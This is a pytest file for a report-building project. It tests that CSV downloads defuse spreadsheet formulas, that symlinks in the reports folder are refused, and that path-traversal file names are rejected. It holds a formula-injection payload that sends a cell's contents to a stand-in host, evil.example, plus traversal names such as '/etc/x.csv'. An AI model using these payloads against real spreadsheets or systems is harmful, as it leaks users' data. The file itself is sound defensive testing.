"""Outputs for people and the reports folder under attack: spreadsheet formulas in every CSV download, links in
reports/ that point outside it, undeclared or linked curated files, and names that leave reports/."""

from __future__ import annotations

import base64
import json
import os
import re

import nbformat
import pandas as pd
import pytest

from analysis import settings
from analysis.build import export, frontpage, staleness
from analysis.data import files
from analysis.pages import report

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'


@pytest.fixture
def reports(tmp_path, monkeypatch):
    """settings pointed at a scratch project in this process; returns its reports folder."""
    root = tmp_path / "project"
    (root / "data" / "curated").mkdir(parents=True)
    for name, value in {
        "ROOT": root,
        "CURATED_DIR": root / "data" / "curated",
        "DATAPACKAGE": root / "data" / "curated" / "datapackage.json",
        "REPORTS_DIR": root / "reports",
    }.items():
        monkeypatch.setattr(settings, name, value)
    return root / "reports"


def economy_package(curated, *extra: dict) -> None:
    fields = [{"name": "value", "type": "number"}, {"name": "publication", "type": "string"}]
    resources = [{"name": "economy", "path": "economy.csv", "schema": {"fields": fields}}, *extra]
    (curated / "datapackage.json").write_text(json.dumps({"name": "t", "resources": resources}))
    (curated / "economy.csv").write_text(f'value,publication\n-3.5,"{HOSTILE.replace(chr(34), chr(34) * 2)}"\n1,-3.5\n')


# ---------------------------------------------------------------- 1. formulas in every CSV for people


def test_formula_cells_in_a_frame_get_an_apostrophe_and_numbers_stay_numbers():
    rows = pd.DataFrame(
        {
            "missile_name": [HOSTILE, "-3.5", "@SUM(A1)", "\tx", "\rx", "+1 more", "ok\r=1+1", "Hwasong-15"],
            "value": [-3.5, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
            "kind": pd.Categorical(["-x", "a", "a", "a", "a", "a", "a", "a"]),
            "ok": [True, False, True, True, True, True, True, True],
        }
    )
    want = ["'" + HOSTILE, "-3.5", "'@SUM(A1)", "'\tx", "'\rx", "'+1 more", "ok\r=1+1", "Hwasong-15"]
    for text in (
        report.csv_text(rows),
        base64.b64decode(report._payload(rows)).decode(),
        report.PublishedCSV(rows, "x.csv", "Download")._repr_mimebundle_()[0][report.CSV_MIME],
    ):
        assert '"ok\r=1+1"' in text  # quoted: a bare CR starts a new row in a spreadsheet
        back = pd.read_csv(pd.io.common.StringIO(text), dtype=str, keep_default_na=False)
        assert back["missile_name"].tolist() == want
        assert back["value"].tolist()[0] == "-3.5" and back["kind"].tolist()[0] == "'-x"
    assert report.csv_text(rows[["value", "ok"]].head(1)) == "value,ok\n-3.5,true\n"
    assert rows["missile_name"][0] == HOSTILE  # the caller's frame is untouched


def test_a_curated_copy_defuses_only_its_text_fields(reports):
    economy_package(settings.CURATED_DIR)
    (settings.CURATED_DIR / "plain.csv").write_text("a\n1\n")
    staleness.publish_data("v1")
    copy = (reports / "data" / "economy.csv").read_text()
    assert copy == "value,publication\n-3.5,\"'" + HOSTILE.replace('"', '""') + '"\n1,-3.5\n'


# ---------------------------------------------------------------- 2. links in reports/ and curated files


def test_write_atomic_replaces_a_link_never_its_target(reports, tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me")
    outside.chmod(0o600)
    reports.mkdir()
    (reports / "a.html").symlink_to(outside)
    assert files.write_atomic(reports / "a.html", "page") == reports / "a.html"
    assert outside.read_text() == "keep me" and not (reports / "a.html").is_symlink()
    assert (reports / "a.html").read_text() == "page" and (reports / "a.html").stat().st_mode & 0o777 == 0o644


def test_write_atomic_refuses_a_linked_folder_under_reports(reports, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    reports.mkdir()
    (reports / "data").symlink_to(elsewhere)
    with pytest.raises(files.LinkError, match=r"^reports/data: is a symbolic link; nothing written through it$"):
        files.write_atomic(reports / "data" / "x.csv", "a\n")
    assert not list(elsewhere.iterdir())


def test_only_declared_regular_curated_files_are_published_and_linked(reports, tmp_path, capsys):
    secret = tmp_path / "passwd"
    secret.write_text("root:x:0:0\n")
    curated = settings.CURATED_DIR
    economy_package(curated, {"name": "linked", "path": "linked.csv"}, {"name": "up", "path": "../x.csv"})
    (curated / "linked.csv").symlink_to(secret)
    (curated / ".env").write_text("TOKEN=1\n")
    (curated / "undeclared.csv").write_text("a\n1\n")
    (reports / "data").mkdir(parents=True)
    (reports / "data" / "results.csv").write_text("v\n1\n")  # a report's own file stays
    staleness.publish_data("v1")
    assert sorted(p.name for p in (reports / "data").iterdir()) == [
        "datapackage.json",
        "economy.csv",
        "nk-data.sqlite",
        "results.csv",
    ]
    assert capsys.readouterr().err == "warning: data/curated/linked.csv is not a regular file: not published\n"
    page = frontpage.build([], {})
    assert re.findall(r'href="data/([^"]+)"', page) == ["datapackage.json", "economy.csv", "nk-data.sqlite"]


def test_copies_from_before_are_removed_but_never_through_a_link(reports, tmp_path):
    keep = tmp_path / "keep.txt"
    keep.write_text("keep")
    economy_package(settings.CURATED_DIR)
    (reports / "data" / "sub").mkdir(parents=True)
    (reports / ".state").mkdir()
    (reports / "data" / ".env").write_text("TOKEN=1\n")  # published by an earlier version
    (reports / "data" / "link").symlink_to(tmp_path)
    old = {"data_version": "v0", "files": [".env", "link/keep.txt", "../../keep.txt", str(keep), "sub"]}
    (reports / ".state" / "data.json").write_text(json.dumps(old))
    staleness.publish_data("v0")  # same data, copies of an older form: published again
    assert keep.read_text() == "keep" and (reports / "data" / "sub").is_dir()
    assert not (reports / "data" / ".env").exists()


@pytest.mark.slow
@pytest.mark.parametrize("folder", ["data", ".state", "logs"])
def test_a_linked_reports_folder_is_refused_before_anything_is_written(project, tmp_path, folder):
    project.notebook("a.ipynb", "n = 1", "print(n)")
    project.registry({"a": {"notebook": "a.ipynb"}})
    assert project.render().returncode == 0
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "events.csv").write_text("theirs")
    (elsewhere / "lock").write_text("theirs")
    before = {p: p.stat().st_mtime_ns for p in project.reports.rglob("*") if folder not in p.parts}
    os.rename(project.reports / folder, tmp_path / "moved")
    (project.reports / folder).symlink_to(elsewhere)
    result = project.render()  # a no-op render otherwise
    assert result.returncode == 2
    assert result.stderr == (
        f"error: cannot use {project.reports / folder} for the reports: it is a symbolic link, not a folder\n"
    )
    assert sorted(p.name for p in elsewhere.iterdir()) == ["events.csv", "lock"]
    assert all(p.read_text() == "theirs" for p in elsewhere.iterdir())
    assert {p: p.stat().st_mtime_ns for p in project.reports.rglob("*") if folder not in p.parts} == before


@pytest.mark.slow
def test_a_linked_lock_file_is_refused_and_its_target_kept(project, tmp_path):
    project.notebook("a.ipynb", "n = 1")
    project.registry({"a": {"notebook": "a.ipynb"}})
    target = tmp_path / "precious"
    target.write_text("do not truncate")
    (project.reports / ".state").mkdir(parents=True)
    (project.reports / ".state" / "lock").symlink_to(target)
    result = project.render()
    assert result.returncode == 2
    assert result.stderr == (
        f"error: cannot use {project.reports / '.state' / 'lock'} for the reports: it is a symbolic link\n"
    )
    assert target.read_text() == "do not truncate"


@pytest.mark.slow
def test_a_render_publishes_only_declared_files_with_formulas_defused(project, tmp_path):
    secret = tmp_path / "passwd"
    secret.write_text("root:x:0:0\n")
    curated = project.root / "data" / "curated"
    economy_package(curated, {"name": "events", "path": "events.csv"}, {"name": "linked", "path": "linked.csv"})
    (curated / "linked.csv").symlink_to(secret)
    (curated / ".env").write_text("TOKEN=1\n")
    project.notebook("a.ipynb", "n = 1")
    project.registry({"a": {"notebook": "a.ipynb"}})
    result = project.render()
    assert result.returncode == 0, result.stderr
    assert result.stderr == "warning: data/curated/linked.csv is not a regular file: not published\n"
    data = project.reports / "data"
    assert sorted(p.name for p in data.iterdir()) == ["datapackage.json", "economy.csv", "events.csv", "nk-data.sqlite"]
    assert "'" + HOSTILE.replace('"', '""') in (data / "economy.csv").read_text()
    links = re.findall(r'href="data/([^"]+)"', (project.reports / "index.html").read_text())
    assert links == ["datapackage.json", "economy.csv", "events.csv", "nk-data.sqlite"]


# ---------------------------------------------------------------- 3. names a notebook hands to the render


def notebook_naming(mime: str, name: str, data) -> nbformat.NotebookNode:
    cell = nbformat.v4.new_code_cell("x")
    cell.outputs = [nbformat.v4.new_output("display_data", data={mime: data}, metadata={mime: {"file": name}})]
    return nbformat.v4.new_notebook(cells=[cell])


@pytest.mark.parametrize("name", ["../x.jsonld", "/tmp/x.jsonld", "data/../../x.csv", "/etc/x.csv", "data/a/b.csv"])
def test_a_name_that_leaves_reports_is_refused(reports, name):
    mime = report.CSV_MIME if name.endswith(".csv") else "application/ld+json"
    with pytest.raises(ValueError, match="an output names the file"):
        export.published_files(notebook_naming(mime, name, "a\n1\n" if mime == report.CSV_MIME else {}))


def test_a_name_under_a_linked_folder_is_refused_before_anything_is_written(reports, tmp_path):
    reports.mkdir()
    (reports / "data").symlink_to(tmp_path)
    with pytest.raises(files.LinkError, match=r"^reports/data: is a symbolic link"):
        export.published_files(notebook_naming(report.CSV_MIME, "data/x.csv", "a\n1\n"))
    for name in ("../x", "/x", "data/../../x"):
        with pytest.raises(files.LinkError, match="leaves the reports folder"):
            files.inside_reports(name)
    assert files.inside_reports("data2/x.csv") == reports / "data2" / "x.csv"
